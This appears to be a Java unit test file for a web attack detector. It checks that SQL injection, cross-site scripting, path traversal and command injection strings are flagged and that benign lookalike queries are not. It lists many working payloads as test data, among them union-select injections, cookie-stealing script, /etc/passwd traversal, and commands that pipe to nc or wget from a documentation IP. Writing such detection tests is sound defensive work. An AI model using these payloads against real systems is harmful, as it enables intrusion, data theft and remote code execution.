// SPDX-License-Identifier: Apache-2.0
package dev.sluice.detector.attack;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class AttackScorerTest {

    private final AttackScorer scorer = new AttackScorer();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "id=7%20or%207=7",
                "id=7'%20or%20'x'='x",
                "id=-5+union+all+select+name,pass+from+users--",
                "id=5/**/union/**/select/**/1,2",
                "id=5%2520union%2520select%25201",
                "q=%df'%20or%201=1%23",
                "id=3;drop+table+orders",
                "id=3;waitfor+delay+'0:0:9'--",
                "id=3)+and+sleep(9)+and+(1=1",
                "user=root'--",
                "id=3+and+ascii(substring((select+database()),1,1))>77",
                "sort=(case+when+1=1+then+name+else+price+end)",
                "id=3+procedure+analyse()",
                "name[$ne]=x",
                "id=3+and+extractvalue(1,concat(0x7e,version()))",
            })
    void injectionsIntoSql(String query) {
        assertThat(scorer.score("/item", query).has(AttackClass.SQL_INJECTION))
                .as(query)
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "q=<script>alert(1)</script>",
                "q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
                "u=javascript:alert(document.cookie)",
                "q=%22%3E%3Csvg/onload=fetch(1)%3E",
            })
    void scripts(String query) {
        assertThat(scorer.score("/item", query).has(AttackClass.CROSS_SITE_SCRIPTING))
                .as(query)
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "f=../../../../etc/passwd",
                "f=..%2f..%2fwp-config.php",
                "f=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini",
                "f=php://filter/x"
            })
    void traversals(String query) {
        assertThat(scorer.score("/item", query).has(AttackClass.PATH_TRAVERSAL))
                .as(query)
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "h=;cat+/tmp/x",
                "h=$(id)",
                "h=`whoami`",
                "h=1|nc+192.0.2.1+99",
                "h=%26%26+wget+http://192.0.2.1/x",
                "x=${jndi:ldap://a/b}"
            })
    void commands(String query) {
        assertThat(scorer.score("/item", query).has(AttackClass.COMMAND_INJECTION))
                .as(query)
                .isTrue();
    }

    @Test
    void traversalInThePath() {
        assertThat(scorer.score("/static/..%2f..%2f..%2fetc/passwd", null).has(AttackClass.PATH_TRAVERSAL))
                .isTrue();
    }

    /** Of attacks as tools and people send them, with tampering: what was seen to be found, less a little. */
    @ParameterizedTest
    @CsvSource({
        "SQL_INJECTION, 0.99",
        "CROSS_SITE_SCRIPTING, 0.99",
        "PATH_TRAVERSAL, 0.99",
        "COMMAND_INJECTION, 0.99",
    })
    void variantsAreFound(AttackClass attack, double atLeast) {
        List<String> variants = new AttackVariants(11).of(attack, 4);
        List<String> missed = variants.stream()
                .filter(query -> !scorer.score("/item", query).has(attack))
                .toList();
        assertThat(1 - (double) missed.size() / variants.size())
                .as("missed of %d: %s", variants.size(), missed)
                .isGreaterThanOrEqualTo(atLeast);
    }

    @Test
    void ordinaryQueriesAreNone() {
        OrdinaryQueries ordinary = new OrdinaryQueries(7);
        List<String> found = new ArrayList<>();
        int queries = 40_000;
        for (int i = 0; i < queries; i++) {
            String query = ordinary.next();
            if (scorer.score("/search", query).any()) {
                found.add(query);
            }
        }
        assertThat(found.size())
                .as("found in %d: %s", queries, found.stream().limit(20).toList())
                .isLessThanOrEqualTo(queries / 2000);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "q=2%2B2%3D4",
                "q=5%3E3",
                "q=std::vector<int>",
                "q=$(document).ready",
                "q=cat+food;+dog+food",
                "q=more+%26+less+%7C+the+same",
                "q=less+$20-$50",
                "q=he+said+%22I'm+fine%22+and+left+(at+10:30).",
                "q=a+likelihood+(about+5%25)+of+rain",
                "q=1/4%22-1%22+wide+ribbon",
                "q=%22like%22+stamp",
                "q=and/or+iPhone+15",
                "q=I+%3C3+you+or+4+others",
                "u=/products/../about",
                "q=if+(a+==+b)+return",
                "q=alert+(2024)",
                "limit=2147483646",
            })
    void nearToAttacksAndNone(String query) {
        assertThat(scorer.score("/search", query).any()).as(query).isFalse();
    }

    /** Kinds of which sets of the public have a few each. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "id=1%2Bunion%2Bselect%2Bnull%2Bfrom%2Bdual",
                "id=9%2527%252Bor%252B%25271%2527%253D%25271",
                "x=isnull",
                "x=1+like+1",
                "x=foo%3Dfoo",
                "x='1'+!%3D+'2'",
                "x=-2147483649",
                "x=tempdb",
                "x=%40%40spid",
                "x=VAR_POP(",
                "x=soundex+(",
                "x='%2B(select+1)",
                "x=a'+-+'b",
                "x='{\"a\":1}'%3A%3Ajsonb+%40%3E+'{}'",
                "x=password%3A%3Aint",
                "x=match(a,b)+against+(",
                "x=merge+using+(",
                "x=1.e.x",
                "x='%22",
                "x[$exists]=1",
                "x=';+x:+goto+y",
                "x=id+1%0Aand%0Aid%0Ais%0Anot%0Anull--",
                "x=-1+order+by+9--",
            })
    void rareKindsOfInjections(String query) {
        assertThat(scorer.score("/item", query).has(AttackClass.SQL_INJECTION))
                .as(query)
                .isTrue();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "h=;c'a't+/etc/hosts",
                "h=|w\\ho+-a",
                "h=%26n^et+user",
                "h=1;id",
                "h=||whoami",
                "h=/???/c?t",
                "h=alias+a%3Dcurl",
                "h=;cat$IFS/etc/hosts",
                "h=if+\"%25VAR%25\"+%3D%3D+\"x\"+echo",
                "h=time+sh+-c+id",
            })
    void disguisedCommands(String query) {
        assertThat(scorer.score("/item", query).has(AttackClass.COMMAND_INJECTION))
                .as(query)
                .isTrue();
    }
}
